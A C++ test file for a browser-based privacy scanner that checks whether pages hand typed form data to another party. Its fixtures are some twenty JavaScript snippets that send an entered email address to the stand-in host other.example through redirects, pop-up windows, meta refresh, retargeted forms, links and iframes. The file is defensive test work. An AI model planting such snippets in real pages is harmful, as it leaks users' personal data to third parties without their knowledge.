// Whoever goes on to another party's page with what was typed hands it over: every way of going there is a
// finding, and nobody goes.
#include <doctest/doctest.h>

#include "scanner/browser/chromium_browser.h"
#include "scanner/engine/scan.h"
#include "tests/support/made_pages.h"

using namespace formleak;
using namespace formleak::test;

namespace {

browser::ChromiumBrowser& chromium() {
    static const auto started = [] {
        browser::ChromiumOptions options;
        options.tabs = 2;
        auto browser = browser::ChromiumBrowser::start(options);
        if (!browser) FAIL(browser.error());
        return std::move(browser).value();
    }();
    return *started;
}

struct Way {
    const char *name,
        *html;  // behind the field `e` and the button `b` of the form `f`; `to`: other's address
};

constexpr Way kWays[] = {
    {"location", "<script>b.onclick = () => { location.href = to + '?email=' + e.value }</script>"},
    {"replace", "<script>b.onclick = () => { location.replace(to + '/' + e.value) }</script>"},
    {"fragment", "<script>b.onclick = () => { location = to + '#' + e.value }</script>"},
    {"blur", "<script>e.onblur = () => { if (e.value) location = to + '?email=' + e.value }</script>"},
    {"typing",
     "<script>e.oninput = () => { if (e.value.includes('@ex')) location = to + '?email=' + e.value "
     "}</script>"},
    {"later",
     "<script>b.onclick = () => setTimeout(() => { location = to + '?email=' + e.value }, 2500)</script>"},
    {"window", "<script>b.onclick = () => { open(to + '?email=' + e.value) }</script>"},
    {"noopener",
     "<script>b.onclick = () => { open(to + '?email=' + e.value, '_blank', 'noopener') }</script>"},
    {"blank",
     "<script>b.onclick = () => { open('about:blank').location = to + '?email=' + e.value }</script>"},
    {"refresh",
     "<script>b.onclick = () => document.head.insertAdjacentHTML('beforeend', '<meta "
     "http-equiv=refresh content=\"0;url=' + to + '?email=' + e.value + '\">')</script>"},
    {"slowrefresh",
     "<script>b.onclick = () => document.head.insertAdjacentHTML('beforeend', '<meta "
     "http-equiv=refresh content=\"2;url=' + to + '?email=' + e.value + '\">')</script>"},
    {"getform", "<script>f.action = to; f.method = 'get'; b.type = 'submit'</script>"},
    {"postform", "<script>f.action = to; f.method = 'post'; b.type = 'submit'</script>"},
    {"windowform",
     "<script>f.action = to; f.method = 'post'; f.target = '_blank'; b.type = 'submit'</script>"},
    {"madeform",
     "<form id=g method=post><input type=hidden name=m></form><script>b.onclick = () => { g.action = to; "
     "g.m.value = e.value; g.submit() }</script>"},
    {"link",
     "<a id=l href=/om>Vidare</a><script>e.onchange = () => { l.href = to + '?email=' + e.value }"
     "</script>"},
    {"windowlink",
     "<a id=l target=_blank href=/om>Vidare</a><script>e.onchange = () => { l.href = to + "
     "'?email=' + e.value }</script>"},
    {"newlink",
     "<script>e.onchange = () => { const l = document.createElement('a'); l.textContent = 'Boka'; "
     "l.href = to + '/' + btoa(e.value); f.append(l) }</script>"},
    {"pressedlink",
     "<script>b.onclick = () => { const l = document.createElement('a'); l.href = to + '?email=' + e.value; "
     "l.click() }</script>"},
    {"download",
     "<script>b.onclick = () => { const l = document.createElement('a'); l.href = to + '?email=' + e.value; "
     "l.download = 'x'; l.click() }</script>"},
    {"frame",
     "<iframe id=i src=/om></iframe><script>b.onclick = () => { i.src = to + '?email=' + e.value }"
     "</script>"},
};

std::string page_with(const std::string& html) {
    return "<!doctype html><title>Kontakt</title><p>En sida om hur man når oss.</p><form id=f "
           "method=post><label>E-post <input type=email name=epost id=e></label><button type=button "
           "id=b>Skicka</button></form><script>const to = 'https://www.other.example/n'</script>" +
           html;
}

ScanReport verify(MadePages& network, std::vector<std::string> targets) {
    ScanRequest request;
    request.command = "verify";
    request.targets = std::move(targets);
    request.only_targets = true;
    request.browser = BrowserRequest{};
    ScanHooks hooks;
    hooks.now = [] { return std::string("2026-11-22T01:10:00Z"); };
    hooks.network = &network;
    hooks.browser = &chromium();
    ScanControl control;
    auto report = scan(request, hooks, control);
    REQUIRE_MESSAGE(report.ok(), (report ? "" : report.error()));
    return std::move(report).value();
}

bool is_found(const ScanReport& report, const std::string& page) {
    for (const Finding& finding : report.findings) {
        if (finding.page != page || finding.basis != Basis::observed) continue;
        for (const std::uint32_t leak : finding.leaks)
            if (report.leaks[leak].recipient == "other.example" &&
                report.leaks[leak].data_kind == DataKind::email)
                return true;
    }
    return false;
}

}  // namespace

TEST_CASE("navigations: whatever way leads to another party with what was typed is a finding") {
    MadePages network("", "shop.example");
    std::vector<std::string> targets;
    for (const Way& way : kWays) {
        targets.push_back("https://www.shop.example/" + std::string(way.name));
        network.add(targets.back(), page_with(way.html));
    }
    network.add("https://www.shop.example/om", "<!doctype html><title>Om</title><p>Om oss.</p>");
    const ScanReport report = verify(network, targets);
    for (const Way& way : kWays) {
        CAPTURE(std::string(way.name));
        CHECK(is_found(report, "https://www.shop.example/" + std::string(way.name)));
    }
    for (const VisitReport& visit : report.visits) {
        CAPTURE(visit.page);
        for (const std::string& why : visit.incomplete) CHECK(why == "");
    }
    for (const HttpRequest& request : network.requests())
        CHECK(request.url.find("other.example") == std::string::npos);
}

TEST_CASE("navigations: links that carry nothing of it, or stay on the site, are not pressed") {
    MadePages network("", "shop.example");
    network.add("https://www.shop.example/",
                page_with("<a href='https://www.other.example/plain'>Partner</a><a id=l href=/om>Tack</a>"
                          "<script>e.onchange = () => { l.href = '/tack?email=' + e.value; const n = "
                          "document.createElement('a'); n.href = to + '/new'; n.textContent = 'Ny'; "
                          "document.body.append(n) }</script>"));
    const ScanReport report = verify(network, {"https://www.shop.example/"});
    REQUIRE(report.visits.size() == 1);
    CHECK(report.visits[0].clicks == 1);
    CHECK_FALSE(is_found(report, "https://www.shop.example/"));
}
